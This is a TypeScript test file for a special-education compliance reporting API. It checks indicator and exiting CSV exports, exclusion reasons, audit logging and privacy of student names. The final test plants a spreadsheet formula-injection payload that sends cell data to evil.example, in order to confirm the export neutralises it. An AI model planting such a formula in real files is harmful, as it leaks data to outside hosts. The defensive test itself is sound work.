/**
 * The SPP/APR indicator CSVs (indicator-5, -11, -12, -13) and the IDEA exiting report (FS009) on both engines.
 * Today is pinned to 2026-11-30: 2025-2026 is the last complete reporting year (src/db/seed-demo-indicators.ts
 * says what happened to each child), 2026-2027 runs.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LightMyRequestResponse } from 'fastify';
import { ENGINES } from './support/db';
import { DEMO, startTestApp, type Client, type TestApp } from './support/app';
import { parseCsv } from './support/csv';

const csvOf = (res: LightMyRequestResponse) => {
  expect(res.statusCode, res.body).toBe(200);
  expect(res.headers['content-type']).toContain('text/csv');
  return parseCsv(res.body);
};
/** The summary rows as item → value, and the child rows. */
const split = (rows: string[][]) => ({
  header: rows[0]!,
  summary: new Map(rows.filter((r) => r[0] === 'summary').map((r) => [r[1]!, r[2]!])),
  children: rows.filter((r) => r[0] === 'child'),
});

describe.each(ENGINES)('indicator and exiting reports on %s', (engine) => {
  let t: TestApp;
  let admin: Client;

  beforeAll(async () => {
    t = await startTestApp(engine);
    admin = await t.signIn(DEMO.admin);
  });
  afterAll(async () => t.close());

  it('indicator 11 for 2025-2026: the 300.301(d) child finished late is left out, with the reason; no names', async () => {
    const res = await admin.get('/api/v1/reports/indicator-11.csv?schoolYear=2025-2026');
    expect(res.headers['content-disposition']).toContain('indicator-11-2025-2026.csv');
    const { header, summary, children } = split(csvOf(res));
    expect(header).toEqual([
      'row',
      'item',
      'value',
      'local_student_id',
      'consent_received_on',
      'timeline_due_on',
      'evaluation_completed_on',
      'days_beyond_timeline',
      'reason',
      'citation',
    ]);
    expect(summary.get('reporting_period')).toBe('2025-07-01 to 2026-06-30');
    const l1049 = children.find((c) => c[3] === 'L1049')!;
    expect(l1049).toEqual([
      'child',
      'excluded',
      '',
      'L1049',
      '2025-10-06',
      '2025-12-05',
      '2026-01-15',
      '41',
      'parent_did_not_produce_child',
      '34 CFR 300.301(d)(1)',
    ]);
    const counted = children.filter((c) => c[1] === 'within_timeline' || c[1] === 'beyond_timeline');
    expect(Number(summary.get('a_consent_received'))).toBe(counted.length);
    expect(Number(summary.get('b_within_timeline'))).toBe(children.filter((c) => c[1] === 'within_timeline').length);
    expect(summary.get('excluded:parent_did_not_produce_child')).toBe('1');
    expect(children.map((c) => c[3]).sort()).toEqual(['L1046', 'L1047', 'L1048', 'L1049']);
    // Children are named by local id only.
    const names = await t.db.query<{ first_name: string; last_name: string }>(
      `SELECT first_name, last_name FROM students WHERE local_id = 'L1049'`,
    );
    expect(res.body).not.toContain(names[0]!.last_name);
  });

  it('indicator 11 by default measures the year today falls in: the delayed evaluation of L1008 is left out, pending none', async () => {
    const { summary, children } = split(csvOf(await admin.get('/api/v1/reports/indicator-11.csv')));
    expect(summary.get('reporting_period')).toBe('2026-07-01 to 2027-06-30');
    expect(children.find((c) => c[3] === 'L1008')).toMatchObject({ 1: 'excluded', 8: 'parent_did_not_produce_child' });
    expect(children.find((c) => c[3] === 'L1019')).toMatchObject({ 1: 'beyond_timeline' });
    expect(children.find((c) => c[3] === 'L1016')).toMatchObject({ 1: 'within_timeline' });
  });

  it('indicator 12 for 2025-2026: (b), (c), (e) each with its dates; percent = c / (a − b − d − e − f)', async () => {
    const { summary, children } = split(
      csvOf(await admin.get('/api/v1/reports/indicator-12.csv?schoolYear=2025-2026')),
    );
    const cat = Object.fromEntries(children.map((c): [string, string] => [c[3]!, c[1]!]));
    expect(cat).toEqual({ L1046: 'c', L1047: 'e', L1048: 'b' });
    expect(children.find((c) => c[3] === 'L1047')).toEqual([
      'child',
      'e',
      '',
      'L1047',
      '2026-03-10',
      '2026-01-05',
      '2026-01-20',
      '2026-03-20',
      'yes',
      '2026-04-10',
      '',
      'part_c_eligible_less_than_90_days',
      'SPP/APR indicator 12 (e)',
    ]);
    expect(summary.get('a_referred_from_part_c')).toBe('3');
    expect(summary.get('denominator_a_minus_b_d_e_f')).toBe('1');
    expect(summary.get('percent')).toBe('100');
  });

  it('indicator 12 this year: L1053 served by the third birthday, L1054 pending', async () => {
    const { summary, children } = split(csvOf(await admin.get('/api/v1/reports/indicator-12.csv')));
    expect(Object.fromEntries(children.map((c): [string, string] => [c[3]!, c[1]!]))).toEqual({
      L1053: 'c',
      L1054: 'pending',
    });
    expect(summary.get('pending')).toBe('1');
  });

  it('indicator 13 and indicator 5 list their children by local id with their category', async () => {
    const i13 = split(csvOf(await admin.get('/api/v1/reports/indicator-13.csv')));
    expect(Number(i13.summary.get('denominator_aged_16_and_above_with_iep'))).toBe(i13.children.length);
    expect(i13.children.some((c) => c[3] === 'L1002')).toBe(true);
    const i5 = split(csvOf(await admin.get('/api/v1/reports/indicator-5.csv?date=2026-10-01')));
    const spp = parseCsv((await admin.get('/api/v1/reports/spp.csv?date=2026-10-01')).body);
    expect(i5.summary.get('denominator_school_age')).toBe(spp.find((r) => r[0] === '5A')![3]);
    expect(i5.children.filter((c) => c[1] === '5A').length).toBe(Number(spp.find((r) => r[0] === '5A')![2]));
  });

  it('the exiting report for 2025-2026: the graduate, the dropout and the one who moved; Theo (2026-2027) is not in it', async () => {
    const res = await admin.get('/api/v1/reports/exiting.csv?schoolYear=2025-2026');
    const rows = csvOf(res);
    expect(rows[0]).toEqual([
      'school_year',
      'category_set',
      'basis_of_exit',
      'disability_code',
      'age',
      'race_ethnicity',
      'sex',
      'english_learner',
      'students',
    ]);
    const totals = Object.fromEntries(
      rows.filter((r) => r[1] === 'total').map((r): [string, string] => [r[2]!, r[8]!]),
    );
    expect(totals).toEqual({ GHS: '1', MKC: '1', DROPOUT: '1' });
    expect(rows.filter((r) => r[1] === 'A').map((r) => [r[2], r[3], r[4]])).toEqual([
      ['GHS', 'SLD', '18'],
      ['MKC', 'OHI', '15'],
      ['DROPOUT', 'EMN', '15'],
    ]);
    // 2026-2027: Theo (L1034) moved on 2026-10-16; he is counted only if 14 or older on the count date 2026-10-01.
    const next = csvOf(await admin.get('/api/v1/reports/exiting.csv?schoolYear=2026-2027'));
    const theo = await t.db.query<{ age: number }>(
      `SELECT date_part('year', age(date '2026-10-01', date_of_birth))::int AS age FROM students WHERE local_id = 'L1034'`,
    );
    expect(next.filter((r) => r[1] === 'total').map((r) => r[2])).toEqual(theo[0]!.age >= 14 ? ['MKC'] : []);
  });

  it('each child listed is recorded in the audit log; the 618 files name none', async () => {
    await admin.get('/api/v1/reports/indicator-12.csv?schoolYear=2025-2026');
    const listed = await t.db.query<{ local_id: string; context: { kind: string; schoolYear: string } }>(
      `SELECT s.local_id, a.context FROM audit_events a JOIN students s ON s.id = a.student_id
        WHERE a.action = 'report.student_listed' AND a.context->>'kind' = 'indicator-12' AND a.context->>'schoolYear' = '2025-2026' ORDER BY a.id DESC LIMIT 3`,
    );
    expect(listed.map((r) => r.local_id).sort()).toEqual(['L1046', 'L1047', 'L1048']);
    const read = await t.db.query<{ context: Record<string, unknown> }>(
      `SELECT context FROM audit_events WHERE action = 'report.read' ORDER BY id DESC LIMIT 1`,
    );
    expect(read[0]!.context).toMatchObject({ kind: 'indicator-12', schoolYear: '2025-2026', children: 3, via: 'api' });
    const before = await t.db.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM audit_events WHERE action = 'report.student_listed'`,
    );
    await admin.get('/api/v1/reports/exiting.csv?schoolYear=2025-2026');
    const after = await t.db.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM audit_events WHERE action = 'report.student_listed'`,
    );
    expect(after[0]!.n).toBe(before[0]!.n);
  });

  it.each([
    ['/api/v1/reports/exiting.csv?schoolYear=2025-2027', 'schoolYear'],
    ['/api/v1/reports/indicator-11.csv?schoolYear=2025', 'schoolYear'],
    ['/api/v1/reports/indicator-5.csv?date=2026-02-30', 'date'],
  ])('%s → 400 naming %s', async (url, field) => {
    const res = await admin.get(url);
    expect(res.statusCode).toBe(400);
    expect(res.headers['content-type']).toContain('application/problem+json');
    expect(res.json<{ errors: { path: string }[] }>().errors.map((e) => e.path)).toContain(field);
  });

  it('the compliance summary counts exclusions by reason and says the administrator may download the CSVs', async () => {
    const s = (await admin.get('/api/v1/compliance/summary')).json<{
      abilities: { downloadReports: boolean };
      indicators: {
        id: string;
        numerator: number;
        denominator: number;
        schoolYear: string | null;
        pending: number;
        excluded: { reason: string; children: number }[];
      }[];
    }>();
    expect(s.abilities.downloadReports).toBe(true);
    const i11 = s.indicators.find((i) => i.id === 'spp11')!;
    const csv = split(csvOf(await admin.get('/api/v1/reports/indicator-11.csv?schoolYear=2026-2027')));
    expect(i11).toMatchObject({
      schoolYear: '2026-2027',
      numerator: Number(csv.summary.get('b_within_timeline')),
      denominator: Number(csv.summary.get('a_consent_received')),
    });
    expect(i11.excluded).toEqual([
      { reason: 'parent_did_not_produce_child', citation: '34 CFR 300.301(d)(1)', children: 1 },
    ]);
    expect(s.indicators.find((i) => i.id === 'spp12')).toMatchObject({ numerator: 1, denominator: 1, pending: 1 });
    const principal = (await (await t.signIn(DEMO.principal)).get('/api/v1/compliance/summary')).json<{
      abilities: { downloadReports: boolean };
    }>();
    expect(principal.abilities.downloadReports).toBe(false);
  });

  it('a report opens safely in a spreadsheet: UTF-8 BOM first, a local id typed as a formula neutralized', async () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"L1002")';
    await t.db.query(`UPDATE students SET local_id = $1 WHERE local_id = 'L1002'`, [formula]);
    try {
      const res = await admin.get('/api/v1/reports/indicator-13.csv');
      expect(res.statusCode, res.body).toBe(200);
      expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const { children } = split(parseCsv(res.body));
      const listed = children.map((c) => c[3]);
      expect(listed).toContain(`'${formula}`);
      expect(listed).not.toContain(formula);
      expect(res.body).not.toMatch(/(^|,)=HYPERLINK/m);
    } finally {
      await t.db.query(`UPDATE students SET local_id = 'L1002' WHERE local_id = $1`, [formula]);
    }
  });
});
